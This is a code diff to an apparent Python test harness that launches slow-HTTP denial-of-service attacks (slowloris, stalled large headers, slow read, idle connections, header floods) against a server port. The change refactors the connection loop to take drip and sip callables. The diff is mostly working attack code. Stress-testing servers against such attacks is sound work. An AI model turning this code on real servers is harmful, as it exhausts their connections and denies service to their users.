@@ -10,6 +10,7 @@ import time
 HEAD = b'GET /k HTTP/1.1\r\nHost: a\r\n'
 FIELDS = b''.join(b'X-%d: %s\r\n' % (n, b'y' * 300) for n in range(90))    # 28 kB in 90 fields: allowed
 DRIPS_A_SECOND = 10_000                                # bytes of heads, of all connections together
+SIPS_A_SECOND = 2000                                   # of 100 bytes of answers
 FLOODS_A_SECOND = 500                                  # heads of 28 kB
 
 
@@ -33,7 +34,7 @@ def pace(rate):
 
 
 def crowd(port, count, first, every, rate, receive=None):
-    """Keeps `count` connections open, each begun with `first`; sends `every` on them in turn, `rate` a second in all."""
+    """Keeps `count` connections open, each begun with `first`; does `every` to them in turn, `rate` a second in all."""
     clients, beat = [], pace(rate)
     while True:
         for n in range(count):
@@ -43,7 +44,7 @@ def crowd(port, count, first, every, rate, receive=None):
                     clients.append(connect(port, receive))
                     clients[n].send(first)
                 elif every:
-                    clients[n].send(every)
+                    every(clients[n])
             except BlockingIOError:
                 pass
             except OSError:                            # closed, or no place for it: again
@@ -52,6 +53,15 @@ def crowd(port, count, first, every, rate, receive=None):
                         clients[n].close()
                         clients[n] = connect(port, receive)
                         clients[n].send(first)
+
+
+def drip(client):
+    client.send(b'y')
+
+
+def sip(client):
+    if not client.recv(100):
+        raise ConnectionError
 
 
 def flood(port, heads):
@@ -76,13 +86,13 @@ def attack(port, kind, count):
         while True:
             pass
     if kind == 'slowloris':
-        crowd(port, count, HEAD + b'X: ', b'y', DRIPS_A_SECOND)
+        crowd(port, count, HEAD + b'X: ', drip, DRIPS_A_SECOND)
     if kind == 'large heads that stall':
-        crowd(port, count, HEAD + FIELDS, b'y', DRIPS_A_SECOND)
+        crowd(port, count, HEAD + FIELDS, drip, DRIPS_A_SECOND)
     if kind == 'slow read':
-        crowd(port, count, b'GET /large HTTP/1.1\r\nHost: a\r\n\r\n', b'', 2000, receive=4096)
+        crowd(port, count, b'GET /large HTTP/1.1\r\nHost: a\r\n\r\n', sip, SIPS_A_SECOND, receive=4096)
     if kind == 'idle connections':
-        crowd(port, count, HEAD + b'\r\n', b'', 5000)
+        crowd(port, count, HEAD + b'\r\n', None, 5000)
     if kind == 'header flood':
         flood(port, HEAD + FIELDS + b'\r\n')
     if kind == 'header flood, refused':
